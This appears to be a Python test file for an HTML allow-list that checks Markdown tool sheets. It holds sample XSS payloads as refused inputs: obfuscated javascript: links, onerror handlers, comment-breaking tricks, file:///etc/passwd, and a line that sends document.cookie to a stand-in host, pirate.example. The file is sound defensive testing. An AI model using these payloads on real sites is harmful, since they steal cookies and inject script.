"""The HTML allow-list of sheet bodies (generator/catalogue/body_html.py).

The attacks themselves live in tests/hostile/; here: what is allowed stays allowed, lines are
right, addresses are read the way a browser reads them, and every limit answers fast.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
import yaml

from generator.catalogue.body_html import (
    MARKDOWN_EXTENSIONS,
    MAX_REPORTED,
    check_body,
    html_findings,
    render,
)
from generator.input_limits import markdown_problems

REPO = Path(__file__).resolve().parents[1]
MKDOCS_BUILTINS = {"toc", "tables", "fenced_code"}  # what MkDocs always adds


def test_extensions_are_those_of_mkdocs_yml() -> None:
    class Loader(yaml.SafeLoader):
        pass

    Loader.add_multi_constructor("!", lambda loader, suffix, node: None)
    config = yaml.load((REPO / "mkdocs.yml").read_text(encoding="utf-8"), Loader=Loader)
    names = {next(iter(entry)) if isinstance(entry, dict) else entry for entry in config["markdown_extensions"]}
    assert names | MKDOCS_BUILTINS == set(MARKDOWN_EXTENSIONS)


ALLOWED = [
    "## Titre\n\nUn *paragraphe* **gras** `code`.\n",
    "- un\n- deux\n    1. trois\n",
    "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n",
    "[site](https://exemple.fr) [http](http://intranet/x) [courriel](mailto:a@b.fr) [ancre](#haut)\n",
    "[relatif](../outils/autre.html) [dossier](supports/grille.pdf) <https://exemple.fr> <a@b.fr>\n",
    "![image](supports/schema.png)\n",
    "<details markdown=\"1\"><summary>Plus</summary>\n\n*texte*\n\n</details>\n",
    "<abbr title=\"Service pénitentiaire d'insertion et de probation\">SPIP</abbr> <kbd>Ctrl</kbd><br>\n",
    "!!! note \"À savoir\"\n    Une remarque.\n",
    "## Suite {: #suite .important }\n",
    "<!-- une note pour les relecteurs -->\n",
    "```\n<script>alert(1)</script>\n```\n",
    "Du code `<script>` cité, et 3 < 4 > 2.\n",
    "> citation\n>> imbriquée\n",
    "<table><tr><td align=\"center\" colspan=\"2\">x</td></tr></table>\n",
    "[ref][r]\n\n[r]: https://exemple.fr/ref\n",
]


@pytest.mark.parametrize("body", ALLOWED)
def test_allowed_content_has_no_problem(body: str) -> None:
    assert check_body(body, "outil.md", 8) == [], render(body)


def test_problems_are_located_in_the_sheet_file() -> None:
    body = "## Étape\n\nTexte.\n\n<script>a()</script>\n\nEncore.\n\n<script>b()</script>\n"
    problems = check_body(body, "content/tools/outil.md", 12)
    assert [problem.line for problem in problems] == [16, 20]
    assert all(problem.path == "content/tools/outil.md" for problem in problems)
    assert "« <script> » non autorisée" in problems[0].message


def test_a_path_is_shown_like_every_other_problem(tmp_path: Path) -> None:
    problems = check_body("<iframe></iframe>\n", tmp_path / "outil.md", 1)
    assert problems[0].path.endswith("outil.md")


@pytest.mark.parametrize("address", [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java&#x09;script:alert(1)",
    "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "jav&#x0A;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox", "file:///etc/passwd", "//pirate.example/",
    "\\\\pirate.example/x",
])
def test_refused_addresses(address: str) -> None:
    problems = check_body(f'<a href="{address}">x</a>\n', "outil.md", 1)
    assert len(problems) == 1 and "adresse" in problems[0].message


def test_messages_name_the_scheme_not_the_payload() -> None:
    [problem] = check_body("[x](javascript:fetch('https://pirate.example/'+document.cookie))\n", "o.md", 1)
    assert "javascript:" in problem.message and "cookie" not in problem.message


@pytest.mark.parametrize("html, words", [
    ('<a href="x', "jamais fermée"),
    ("<img src=x onerror=alert(1)", "jamais fermée"),
    ("<!-- pas fermé", "commentaire"),
    ("<!--->--><img src=x onerror=a()>", "commentaire"),
    ("<!-- a --!> <img src=x onerror=a()> -->", "commentaire"),
    ("<?php echo 1 ?>", "déclaration"),
    ("<!DOCTYPE html>", "déclaration"),
    ("<IMG SRC=x OnErRoR=a()>", "onerror"),
    ("<img/src=x/ onerror=a()>", "onerror"),  # "/" between attributes is a separator
    ('<a href="#"\tonclick=a()>x</a>', "onclick"),
    ('<p style="text-align: center;color:red">x</p>', "style"),
])
def test_tokenizer_reads_like_a_browser(html: str, words: str) -> None:
    # <img/src=x/onerror=a()> is harmless: a browser reads src="x/onerror=a()" (unquoted value).
    assert html_findings("<img/src=x/onerror=a()>") == []
    findings = html_findings(html)
    assert any(words in finding.message for finding in findings), [f.message for f in findings]


def test_table_alignment_is_the_only_inline_style() -> None:
    assert html_findings('<table><tr><td style="text-align: right;">1</td></tr></table>') == []
    assert html_findings('<div style="text-align: right;">1</div>')


def test_many_problems_are_summed_up() -> None:
    problems = check_body("<img src=x onerror=a()>\n\n" * 200, "outil.md", 1)
    assert len(problems) == MAX_REPORTED + 1
    assert "150 autre(s)" in problems[-1].message


@pytest.mark.parametrize("body, words", [
    ("a " * 6_000, "sans ligne vide"),
    ("<b>x</b> " * 2_000, "sans ligne vide"),
    ("[a " * 30 + "\n", "crochets"),
    ("<a " * 50 + "\n", "jamais suivis"),
])
def test_limits_answer_fast_with_a_located_message(body: str, words: str) -> None:
    started = time.perf_counter()
    problems = check_body(body, "outil.md", 8)
    assert time.perf_counter() - started < 2
    assert problems and words in problems[0].message and problems[0].line >= 8


@pytest.mark.parametrize("body", [
    "[" * 150_000,
    "\n".join("    " * depth + "- x" for depth in range(200)),
    "> " * 40 + "x\n",
])
def test_bodies_beyond_the_input_limits_are_left_to_them(body: str, tmp_path: Path) -> None:
    """No second message, no rendering: generator/input_limits.py reports them, located."""
    started = time.perf_counter()
    assert check_body(body, "outil.md", 8) == []
    assert time.perf_counter() - started < 2
    sheet = tmp_path / "outil.md"
    sheet.write_text(body, encoding="utf-8")
    assert markdown_problems(sheet)


def test_a_long_ordinary_body_is_checked_quickly() -> None:
    sentence = "Le CPIP reformule, [résume](https://exemple.fr) et *questionne*. "
    section = "## Étape\n\n" + sentence * 40 + "\n\n- un\n- deux\n\n"
    body = section * (200_000 // len(section))
    started = time.perf_counter()
    assert check_body(body, "outil.md", 8) == []
    assert time.perf_counter() - started < 10
